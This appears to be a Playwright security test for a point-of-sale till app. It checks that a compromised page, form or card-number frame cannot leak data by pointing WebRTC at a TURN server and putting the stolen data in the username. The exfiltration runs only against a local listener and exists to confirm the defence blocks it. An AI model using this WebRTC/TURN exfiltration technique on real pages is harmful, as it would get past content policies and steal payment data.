import { type Server, createServer } from 'node:net';
import type { Frame, Page } from 'playwright';
import { expect } from './connected-till.ts';
import type { TillApp } from './till-app.ts';

/*
 * WebRTC bypasses the Content-Security-Policy and the request filter. A page that was taken over names a TURN server of its own,
 * over TCP, and puts the stolen data into the user name.
 */

const LOOT = 'what-the-page-knows';

/** A server on this PC that records everything that arrives. */
async function startListener(): Promise<{ readonly port: number; readonly connections: () => number; readonly bytes: () => number; close(): void }> {
  let [connections, bytes] = [0, 0];
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.on('data', (part) => (bytes += part.length)).on('error', () => socket.destroy());
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { port: address.port, connections: () => connections, bytes: () => bytes, close: () => void server.close() };
}

/** Ends when WebRTC has tried every server that it was given. */
function carryOff(frame: Frame, port: number): Promise<string> {
  return frame.evaluate(
    async ([loot, at]) => {
      const urls = ['127.0.0.1', 'localhost'].flatMap((host) => [`turn:${host}:${at}?transport=tcp`, `turns:${host}:${at}?transport=tcp`]);
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: loot, credential: 'x' }], iceTransportPolicy: 'relay' });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      if (peer.iceGatheringState !== 'complete') await new Promise((resolve) => peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve(null)));
      peer.close();
      return 'tried';
    },
    [LOOT, String(port)] as const,
  );
}

/** `form`: the page of the form on the screen, with its card fields. */
export async function sendsNothingByWebRtc(app: TillApp, form: Page): Promise<void> {
  const listener = await startListener();
  const cardField = form.frames().find((frame) => frame.name() === 'cardNumber');
  const places = [['till', app.till.mainFrame()], ['form', form.mainFrame()], ['card field', cardField!]] as const;
  for (const [place, frame] of places) {
    expect(await carryOff(frame, listener.port)).toBe('tried');
    expect({ place, connections: listener.connections(), bytes: listener.bytes() }).toEqual({ place, connections: 0, bytes: 0 });
  }
  listener.close();
  const policies = await app.counter.recorded('webContents.setWebRTCIPHandlingPolicy');
  expect(policies.length).toBeGreaterThanOrEqual(2);
  expect(new Set(policies)).toEqual(new Set(['disable_non_proxied_udp']));
  await expect.poll(() => app.log()).toContain('network.refused');
}
